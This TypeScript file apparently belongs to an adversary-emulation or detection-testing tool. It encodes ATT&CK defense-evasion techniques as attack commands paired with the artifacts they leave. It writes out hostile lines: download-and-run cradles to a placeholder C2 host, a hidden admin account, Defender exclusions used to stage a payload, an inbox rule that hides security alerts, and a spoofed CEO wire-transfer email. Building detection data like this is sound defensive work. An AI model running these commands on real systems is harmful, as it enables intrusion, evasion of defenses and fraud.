import { t, v } from "../dsl";

const EXCLUSIONS = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions";
const POLICY_EXCLUSIONS = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions";

/** Defense evasion, continued: alternate authentication, trust controls, impairing defenses, hiding. (continued) */
export const defenseEvasion3B = [
  t("T1564.002", "Hidden users", "An account hidden from the logon screen via SpecialAccounts\\UserList.", [
    v(
      "reg-userlist",
      [
        {
          cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v support /t REG_DWORD /d 0 /f',
          reg: [
            [
              "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList",
              "support",
              "0",
              "REG_DWORD",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
    v(
      "dollar-account",
      [
        {
          cmd: "net user admin$ P@ss{{n}}! /add",
          then: [{ id: "a", kind: "account.create", user: "admin$", local: true }],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1564.003", "Hidden window", "PowerShell -WindowStyle Hidden and Start-Process -WindowStyle Hidden.", [
    // Hidden windows are for launches the user would see: a Run value or shortcut started by explorer.
    v(
      "ps-hidden",
      [
        {
          cmd: "powershell.exe -WindowStyle hidden -NoProfile -ExecutionPolicy Bypass -File {{appdata}}\\{{rand}}.ps1",
          parent: "@explorer",
        },
      ],
      { shell: "none" },
    ),
    v(
      "start-process-hidden",
      [
        { ps: "Start-Process -WindowStyle Hidden -FilePath C:\\ProgramData\\{{rand}}.exe" },
        { cmd: "C:\\ProgramData\\{{rand}}.exe", parent: "sh" },
      ],
      { shell: "ps" },
    ),
    v("conhost-headless", [
      { cmd: "conhost.exe --headless powershell.exe -c iex(iwr http://{{c2}}/h)", as: "con" },
      { cmd: "powershell.exe -c iex(iwr http://{{c2}}/h)", parent: "con", net: [["{{c2}}", 80]] },
    ]),
  ]),
  t("T1564.004", "NTFS file attributes", "Payloads stored in alternate data streams and run from them.", [
    v("type-to-ads", [
      {
        cmd: "cmd.exe /c type {{tmp}}\\{{rand}}.exe > {{appdata}}\\desktop.ini:{{rand}}.exe",
        streams: [["{{appdata}}\\desktop.ini", "{{rand}}.exe"]],
      },
    ]),
    v(
      "set-content-stream",
      [
        {
          ps: "Set-Content -Path $env:APPDATA\\log.txt -Stream payload -Value $b64",
          streams: [["{{appdata}}\\log.txt", "payload"]],
        },
      ],
      { shell: "ps" },
    ),
    // LOLBAS: a DLL kept in a stream is run straight from it.
    v("rundll32-ads", ['rundll32.exe "{{appdata}}\\desktop.ini:{{rand}}.dll",DllRegisterServer']),
    v("wmic-ads", ['wmic process call create "{{appdata}}\\desktop.ini:{{rand}}.exe"']),
  ]),
  t(
    "T1564.005",
    "Hidden file system",
    "A VHD created and attached without a drive letter, or an implant's private encrypted store.",
    [
      // diskpart script: create vdisk, attach vdisk, create partition, format, no assign.
      v(
        "diskpart",
        [
          {
            cmd: "diskpart /s {{tmp}}\\{{rand}}.txt",
            reads: ["{{tmp}}\\{{rand}}.txt"],
            files: ["C:\\ProgramData\\{{name}}.vhdx"],
          },
        ],
        { elevated: true },
      ),
      // Implants such as ComRAT keep modules and output in one encrypted blob file of their own.
      v(
        "implant-vfs",
        [
          {
            cmd: "{{local}}\\Microsoft\\{{name}}\\{{name}}.exe",
            parent: "@explorer",
            keep: true,
            files: ["{{local}}\\Microsoft\\{{name}}\\{{rand}}.dat"],
            net: [["{{c2}}", 443]],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1564.006", "Run virtual instance", "A headless VirtualBox VM running the payload (Ragnar Locker).", [
    v(
      "vboxmanage",
      ['"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe" startvm micro --type headless'],
      { elevated: true },
    ),
    v("wsl", ['wsl.exe -e /bin/bash -c "curl -s http://{{c2}}/x | sh"']),
  ]),
  t("T1564.007", "VBA stomping", "A document with stomped p-code opened in Office.", [
    v(
      "stomped-doc",
      [
        {
          cmd: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{{downloads}}\\{{rand}}.doc"`,
          parent: "@explorer",
          as: "w",
        },
        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "w", as: "c" },
        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1564.008", "Email hiding rules", "An inbox rule moving security mails to a hidden folder.", [
    v(
      "new-inboxrule",
      [
        {
          ps: "New-InboxRule -Name '.' -SubjectContainsWords 'password','security','alert' -MoveToFolder 'RSS Subscriptions' -MarkAsRead $true",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t(
    "T1564.010",
    "Process argument spoofing",
    "A process started suspended with fake arguments then rewritten.",
    [
      v("spoofed-args", [
        { cmd: "{{tools}}\\{{name}}.exe", as: "l" },
        { cmd: 'C:\\Windows\\System32\\cmd.exe /c "echo this is fine"', parent: "l" },
      ]),
    ],
  ),
  t("T1564.011", "Ignore process interrupts", "nohup-like detachment: start /b with no console.", [
    v("start-b", [
      { cmd: "cmd.exe /c start /b {{tmp}}\\{{rand}}.exe", as: "c" },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c", keep: true },
    ]),
  ]),
  t(
    "T1564.012",
    "File/path exclusions",
    "A Defender exclusion added (Add-MpPreference, policy key) or found, and the payload staged in it.",
    [
      // Add-MpPreference asks the Defender service, which writes the exclusion; the implant then runs
      // from the excluded folder and its shell commands start under it.
      v(
        "add-mppreference-public",
        [
          {
            ps: "Add-MpPreference -ExclusionPath 'C:\\Users\\Public'",
            defender: [[`${EXCLUSIONS}\\Paths`, "C:\\Users\\Public", "0"]],
          },
          {
            ps: "Copy-Item $env:TEMP\\{{rand}}.exe C:\\Users\\Public\\{{name}}.exe",
            files: ["C:\\Users\\Public\\{{name}}.exe"],
          },
          { cmd: "C:\\Users\\Public\\{{name}}.exe", as: "imp", net: [["{{c2}}", 443]] },
          { cmd: "C:\\Windows\\System32\\cmd.exe /C {{$shell}}", parent: "imp", as: "c" },
          { cmd: "{{$shell}}", parent: "c" },
        ],
        {
          shell: "ps",
          elevated: true,
          vars: { shell: "{{net localgroup administrators|nltest /dclist:|quser}}" },
        },
      ),
      v(
        "reg-policy-exclusion",
        [
          {
            cmd: `reg add "${POLICY_EXCLUSIONS}\\Paths" /v C:\\ProgramData /t REG_DWORD /d 0 /f`,
            reg: [[`${POLICY_EXCLUSIONS}\\Paths`, "C:\\ProgramData", "0", "REG_DWORD"]],
            defender: [[`${POLICY_EXCLUSIONS}\\Paths`, "C:\\ProgramData", "0"]],
          },
          // copy is a cmd built-in: the shell writes the payload into the excluded folder itself.
          { by: "sh", files: ["C:\\ProgramData\\{{name}}.exe"] },
        ],
        { elevated: true },
      ),
      v(
        "excluded-path",
        [
          { ps: "Get-MpPreference | Select -ExpandProperty ExclusionPath" },
          {
            cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.exe "C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"',
            parent: "sh",
            files: ["C:\\Program Files\\Microsoft SQL Server\\{{rand}}.exe"],
          },
        ],
        { shell: "ps", elevated: true },
      ),
    ],
  ),
  t("T1620", "Reflective code loading", "Assembly.Load of downloaded bytes in PowerShell.", [
    // A C2 stager persisted in a Run value (started by explorer at logon): encoded PowerShell pulls a
    // base64 .NET payload and loads it from memory.
    v(
      "encoded-stager",
      [
        {
          parent: "@explorer",
          ps: "[Reflection.Assembly]::Load([Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('https://{{c2}}/{{rand}}'))).EntryPoint.Invoke($null, (, [string[]] @()))",
          encode: true,
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
    // Cobalt Strike execute-assembly: the beacon spawns its sacrificial process, loads the CLR into it and
    // runs the assembly from memory; the output comes back over the job's pipe, the beacon does the talking.
    v(
      "execute-assembly",
      [
        {
          cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW",
          as: "beacon",
          parent: "@explorer",
          net: [["{{c2}}", 443]],
          keep: true,
        },
        { cmd: "C:\\Windows\\system32\\{{spawnto}}", as: "sac", parent: "beacon" },
        { by: "beacon", access: ["sac", "0x1fffff"], thread: "sac" },
        {
          by: "sac",
          loads: [
            "C:\\Windows\\System32\\mscoree.dll",
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
          ],
          pipes: ["\\postex_{{rand}}"],
        },
        { by: "beacon", pipeConnects: ["\\postex_{{rand}}"] },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1622", "Debugger evasion", "IsDebuggerPresent checks and debug-port queries by the payload.", [
    v("checks", [{ cmd: "{{tmp}}\\{{rand}}.exe", net: [["{{c2}}", 443]] }]),
    // Atomic T1622: debugger processes and an attached managed debugger checked before going on.
    v(
      "ps-debugger-checks",
      [
        {
          ps: "$d = Get-Process | Where-Object { $_.ProcessName -match 'dbg' -or $_.ProcessName -match 'debug' }; if ($d -or [System.Diagnostics.Debugger]::IsAttached) { exit }",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t(
    "T1656",
    "Impersonation",
    "A help-desk pretext; on the host, a remote support tool installed from a link.",
    [
      v(
        "quickassist",
        [
          {
            cmd: '"C:\\Program Files\\WindowsApps\\MicrosoftCorporationII.QuickAssist_2.0.32.0_x64__8wekyb3d8bbwe\\Microsoft.RemoteAssistance.QuickAssist\\QuickAssist.exe"',
            parent: "@explorer",
            net: [["remoteassistance.support.services.microsoft.com", 443]],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1672", "Email spoofing", "Mail sent with a forged sender through an open relay from the host.", [
    v(
      "send-mailmessage",
      [
        {
          ps: "Send-MailMessage -From 'ceo@{{dns}}' -To 'finance@{{dns}}' -Subject 'Urgent wire' -SmtpServer {{srvip}} -Body 'Please process today.'",
          net: [["@server", 25]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1678", "Delay execution", "Execution delayed with timeout/ping/Start-Sleep.", [
    v("timeout", ["timeout /t 300 /nobreak", "{{tmp}}\\{{rand}}.exe"]),
    v(
      "start-sleep",
      [
        { ps: "Start-Sleep -Seconds 600; Start-Process $env:TEMP\\{{rand}}.exe" },
        { cmd: "{{tmp}}\\{{rand}}.exe", delay: 600000 },
      ],
      { shell: "ps" },
    ),
  ]),
  t(
    "T1679",
    "Selective exclusion",
    "Ransomware skipping system folders; seen as enumeration with exclusions.",
    [
      v("exclusions", [
        { cmd: '{{tools}}\\{{name}}.exe -path C:\\ -skip Windows,"Program Files",ProgramData' },
      ]),
    ],
  ),
];
